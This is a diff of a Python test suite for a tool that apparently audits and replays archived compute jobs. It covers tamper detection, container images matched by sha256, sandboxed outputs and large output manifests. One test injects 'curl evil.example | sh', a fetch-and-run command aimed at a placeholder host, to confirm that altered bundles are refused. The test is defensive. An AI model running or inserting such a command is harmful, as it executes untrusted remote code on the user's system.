@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-import dataclasses
+import json
 import os
 import zipfile
 from pathlib import Path
@@ -15,6 +15,7 @@ from auditor.replay import Plan, execute, plan, verdict_evidence
 from auditor.replay.sandbox import find
 from auditor.verdict import ReplayVerdict, Sameness
 from auditor.world import RealWorld
+from probes.containers import ContainerIdentities, ContainerReferences, ImageIdentity, Reference
 from reports.bundle import build
 from tests import archived, factory
 from tests.factory import at, seen
@@ -146,7 +147,7 @@ def test_a_folder_with_something_in_it_is_left_alone(tmp_path: Path) -> None:
 def test_a_changed_bundle_is_not_even_planned(tmp_path: Path) -> None:
     contents = files(made(tmp_path))
     contents["data/code/job.sh"] += b"curl evil.example | sh\n"
-    with pytest.raises(AuditError, match="job.sh' was changed"):
+    with pytest.raises(AuditError, match=r"job\.sh' was changed"):
         plan(packed(tmp_path / "x.zip", contents))
 
 
@@ -289,16 +290,63 @@ def test_an_unpacked_bundle_replays_too(tmp_path: Path) -> None:
     assert execute(plan(tmp_path / "bag"), tmp_path / "again", yes=True).sameness is Sameness.IDENTICAL
 
 
-def test_the_plan_of_an_image_by_digest_names_it_and_stops_when_it_is_not_here(tmp_path: Path) -> None:
-    from probes.containers import ContainerReferences, Reference
+def sif(sha256: str) -> tuple[Evidence, Evidence]:
+    """The script names fit.sif; in the job it had this content."""
+    named = ContainerReferences((Reference("apptainer", "fit.sif", "fit.sif", "file", "", "", "", "", 3),))
+    return seen(named), seen(ContainerIdentities((ImageIdentity("fit.sif", "ok", "", sha256=sha256, size=5),)), phase=Phase.START)
 
-    named = "docker://registry.example/fit@sha256:" + "a" * 64
-    images = ContainerReferences((Reference("apptainer", "fit.sif", "fit.sif", "file", "", "", "", "", 3),))
-    bundle = made(tmp_path, None, seen(images))
-    assert plan(bundle).environment == "image-by-digest"
-    verdict = replayed(bundle)
-    assert (verdict.sameness, verdict.reason) == (Sameness.NOT_RUN, "image fit.sif is not here")
-    pinned = dataclasses.replace(
-        images.references[0], text=named, resolved=named, transport="docker", digest="sha256:" + "a" * 64
+
+def test_an_image_file_is_found_by_its_content_and_stands_beside_the_script(tmp_path: Path) -> None:
+    script = "#!/bin/bash\ncat fit.sif\npython3 fit.py in.csv out.csv metrics.json $1\n"
+    bundle = made(tmp_path, None, *sif(factory.sha("image")), script=script)
+    assert plan(bundle).stops == ("input fit.sif: not found; name its folder with --inputs",)
+    (tmp_path / "images").mkdir()
+    (tmp_path / "images" / "fit.sif").write_text("image")
+    verdict = replayed(bundle, inputs_dir=tmp_path / "images")
+    assert (verdict.sameness, verdict.environment, verdict.sandbox) == (Sameness.IDENTICAL, "image-by-digest", "none")
+
+
+def test_another_image_of_the_same_name_is_not_used(tmp_path: Path) -> None:
+    bundle = made(tmp_path, None, *sif(factory.sha("image")))
+    (tmp_path / "images").mkdir()
+    (tmp_path / "images" / "fit.sif").write_text("imagE")
+    assert replayed(bundle, inputs_dir=tmp_path / "images").reason == (
+        f"input fit.sif: {tmp_path}/images/fit.sif is another file (its sha256 differs)"
     )
-    assert plan(made(tmp_path / "two", None, seen(ContainerReferences((pinned,))))).runnable
+
+
+def test_an_image_that_is_known_by_name_only_stops_the_run(tmp_path: Path) -> None:
+    verdict = replayed(made(tmp_path, None, *sif("")))
+    assert verdict.sameness is Sameness.NOT_RUN
+    assert verdict.reason == "input fit.sif: not found; name its folder with --inputs"
+
+
+@needs_sandbox
+def test_in_the_sandbox_outputs_outside_the_work_directory_are_caught_and_nothing_there_is_touched(tmp_path: Path) -> None:
+    (tmp_path / "results").mkdir()
+    (tmp_path / "results" / "out.csv").write_text(archived.OUTPUT)
+    outside = factory.manifest(
+        factory.file(f"{tmp_path}/results/out.csv", "output", archived.OUTPUT), root=str(tmp_path / "work")
+    )
+    script = f"#!/bin/bash\npython3 fit.py in.csv {tmp_path}/results/out.csv metrics.json $1\n"
+    bundle = made(tmp_path, None, seen(outside, phase=Phase.END, taken_at=at(20)), script=script)
+    (tmp_path / "results" / "out.csv").write_text("precious")
+    verdict = replayed(bundle)
+    assert [o.sameness for o in verdict.outputs if o.path.startswith("/")] == [Sameness.IDENTICAL]
+    assert (tmp_path / "results" / "out.csv").read_text() == "precious"
+    assert plan(bundle, sandbox=False).stops == (
+        f"{tmp_path}/results/out.csv must stand at this absolute path, which takes a sandbox (switched off)",
+    )
+
+
+def test_thousands_of_files_are_named_in_a_list_and_still_compared(tmp_path: Path) -> None:
+    job, evidence = archived.run(tmp_path / "work")
+    many = factory.manifest(*(factory.file(f"out/{n}.txt", "output", f"{n}\n") for n in range(600)), root=str(tmp_path / "work"))
+    script = "#!/bin/bash\nmkdir -p out; for n in {0..599}; do echo $n >out/$n.txt; done\n"
+    (tmp_path / "work" / "job.sh").write_text(script)
+    submitted = factory.submission(script, "job.sh", script_path=f"{tmp_path}/work/job.sh")
+    known = (seen(submitted), seen(many, phase=Phase.END, taken_at=at(20)), *evidence[1:5], evidence[6])
+    build(job, known, archived.card(job, known), tmp_path / "fit.crate.zip", objects=archived.nothing)
+    recipe = json.loads(files(tmp_path / "fit.crate.zip")["data/replay.json"])
+    assert (len(recipe["files"]), recipe["listed"]) == (503, {"expected": "manifests/outputs.sha256"})
+    assert replayed(tmp_path / "fit.crate.zip").reason == "of 600 outputs 600 identical"
